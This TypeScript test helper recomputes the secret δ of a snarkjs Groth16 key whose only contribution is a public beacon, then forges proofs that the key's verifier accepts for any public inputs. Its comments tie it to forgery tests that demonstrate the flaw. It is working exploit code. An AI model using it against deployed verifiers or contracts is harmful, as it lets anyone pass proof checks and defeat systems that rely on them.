/**
 * The attacker's side of issue 10: recompute a beacon contribution's δ from public data and forge a
 * Groth16 proof with it. Used by test/integration/keys-forgery.test.ts and test/contracts/forgery.test.ts.
 *
 * Ported (behaviour, not code) from snarkjs 0.7.6 / ffjavascript 0.3.1:
 *   - misc.rngFromBeaconParams: SHA-256 iterated 2^numIterationsExp times over the beacon bytes, the
 *     digest read as eight big-endian u32 words seeds a ChaCha20 stream;
 *   - ChaCha (ffjavascript/src/chacha.js): plain 20-round ChaCha block function, key = seed, counter in
 *     words 12..15 (incremented after every block), outputs consumed word by word;
 *   - WasmField1.fromRng (the Fr the zkey code uses): four nextU64 (high word first) little-endian limbs,
 *     masked to 254 bits, rejected while >= r; the bytes are taken as a Montgomery representation, so
 *     the element's value is v·R⁻¹ mod r (R = 2^256);
 *   - zkey beacon: the contribution's δ is the first Fr drawn from that stream, and a fresh zkey has
 *     δ = 1, so for a key whose only contribution is the beacon, vk_delta_2 = δ·G2.
 * Forgery (γ = G2 generator in snarkjs keys): A = α, B = β, C = −δ⁻¹·vk_x, vk_x = IC0 + Σ s_i·IC_i, since
 * e(A, B) = e(α, β)·e(vk_x, γ)·e(C, δ) then holds for any public signals s.
 */
import { createHash } from "node:crypto";
import { bn254 } from "@noble/curves/bn254.js";
import type { Groth16Proof, VerificationKey } from "snarkjs";

export const FR = bn254.G1.Point.Fn.ORDER;
const R_INV = modInverse((1n << 256n) % FR, FR);
const MASK_254 = (1n << 254n) - 1n;

/** The δ of a snarkjs zkey beacon contribution, from its public parameters. */
export function beaconDelta(beaconHashHex: string, numIterationsExp: number): bigint {
  let digest: Buffer = Buffer.from(beaconHashHex, "hex");
  const iterations = 2 ** numIterationsExp;
  for (let i = 0; i < iterations; i++) digest = createHash("sha256").update(digest).digest();
  const seed = Array.from({ length: 8 }, (_, i) => digest.readUInt32BE(i * 4));
  const rng = new ChaCha20(seed);
  for (;;) {
    let v = 0n;
    for (let limb = 0; limb < 4; limb++) {
      const hi = BigInt(rng.nextU32());
      const lo = BigInt(rng.nextU32());
      v += ((hi << 32n) | lo) << BigInt(64 * limb);
    }
    v &= MASK_254;
    if (v < FR) return (v * R_INV) % FR;
  }
}

class ChaCha20 {
  readonly #state: number[];
  #block: number[] = [];
  #index = 16;

  constructor(seed: number[]) {
    this.#state = [0x61707865, 0x3320646e, 0x79622d32, 0x6b206574, ...seed, 0, 0, 0, 0];
  }

  nextU32(): number {
    if (this.#index === 16) this.#refill();
    return this.#block[this.#index++]!;
  }

  #refill(): void {
    const x = [...this.#state];
    const rotl = (v: number, n: number) => ((v << n) | (v >>> (32 - n))) >>> 0;
    const qr = (a: number, b: number, c: number, d: number) => {
      x[a] = (x[a]! + x[b]!) >>> 0;
      x[d] = rotl(x[d]! ^ x[a]!, 16);
      x[c] = (x[c]! + x[d]!) >>> 0;
      x[b] = rotl(x[b]! ^ x[c]!, 12);
      x[a] = (x[a]! + x[b]!) >>> 0;
      x[d] = rotl(x[d]! ^ x[a]!, 8);
      x[c] = (x[c]! + x[d]!) >>> 0;
      x[b] = rotl(x[b]! ^ x[c]!, 7);
    };
    for (let round = 0; round < 10; round++) {
      qr(0, 4, 8, 12);
      qr(1, 5, 9, 13);
      qr(2, 6, 10, 14);
      qr(3, 7, 11, 15);
      qr(0, 5, 10, 15);
      qr(1, 6, 11, 12);
      qr(2, 7, 8, 13);
      qr(3, 4, 9, 14);
    }
    this.#block = x.map((v, i) => (v + this.#state[i]!) >>> 0);
    this.#index = 0;
    for (let w = 12; w < 16; w++) {
      this.#state[w] = (this.#state[w]! + 1) >>> 0;
      if (this.#state[w] !== 0) break;
    }
  }
}

type G1Json = [string, string, string];
type G2Json = [[string, string], [string, string], [string, string]];

function g1(json: unknown) {
  const [x, y] = json as G1Json;
  return bn254.G1.Point.fromAffine({ x: BigInt(x), y: BigInt(y) });
}

function g2(json: unknown) {
  const [[x0, x1], [y0, y1]] = json as G2Json;
  return bn254.G2.Point.fromAffine({ x: { c0: BigInt(x0), c1: BigInt(x1) }, y: { c0: BigInt(y0), c1: BigInt(y1) } });
}

/** Whether δ·G2 is the key's vk_delta_2, i.e. the attacker knows the key's δ. */
export function deltaMatches(vkey: VerificationKey, delta: bigint): boolean {
  return bn254.G2.Point.BASE.multiply(delta).equals(g2(vkey["vk_delta_2"]));
}

/** A proof that the key's verifier accepts for any `publicSignals` when `delta` is the key's δ. */
export function forgeProof(vkey: VerificationKey, publicSignals: readonly string[], delta: bigint): Groth16Proof {
  const ic = vkey["IC"] as unknown[];
  if (ic.length !== publicSignals.length + 1) throw new Error(`the key has ${ic.length - 1} public signals, got ${publicSignals.length}`);
  let vkX = g1(ic[0]);
  publicSignals.forEach((s, i) => {
    const k = BigInt(s) % FR;
    if (k !== 0n) vkX = vkX.add(g1(ic[i + 1]).multiply(k));
  });
  const c = vkX.multiply(modInverse(delta, FR)).negate().toAffine();
  const a = g1(vkey["vk_alpha_1"]).toAffine();
  const b = g2(vkey["vk_beta_2"]).toAffine();
  return {
    pi_a: [a.x.toString(), a.y.toString(), "1"],
    pi_b: [
      [b.x.c0.toString(), b.x.c1.toString()],
      [b.y.c0.toString(), b.y.c1.toString()],
      ["1", "0"],
    ],
    pi_c: [c.x.toString(), c.y.toString(), "1"],
    protocol: "groth16",
    curve: "bn128",
  };
}

/**
 * What an attacker recomputes from a provenance file: the δ of the deterministic beacon it publishes
 * (format 2 phase2.beacon, or format 1 phase2.beaconHashHex). Undefined when it publishes no beacon.
 */
export function publishedBeaconDelta(provenance: Record<string, unknown>): bigint | undefined {
  const phase2 = provenance["phase2"] as { beacon?: { hashHex: string; numIterationsExp: number }; beaconHashHex?: string; numIterationsExp?: number } | undefined;
  if (phase2?.beacon) return beaconDelta(phase2.beacon.hashHex, phase2.beacon.numIterationsExp);
  if (phase2?.beaconHashHex && phase2.numIterationsExp !== undefined) return beaconDelta(phase2.beaconHashHex, phase2.numIterationsExp);
  return undefined;
}

function modInverse(a: bigint, m: bigint): bigint {
  let [oldR, r] = [((a % m) + m) % m, m];
  let [oldS, s] = [1n, 0n];
  while (r !== 0n) {
    const q = oldR / r;
    [oldR, r] = [r, oldR - q * r];
    [oldS, s] = [s, oldS - q * s];
  }
  if (oldR !== 1n) throw new Error("not invertible");
  return ((oldS % m) + m) % m;
}
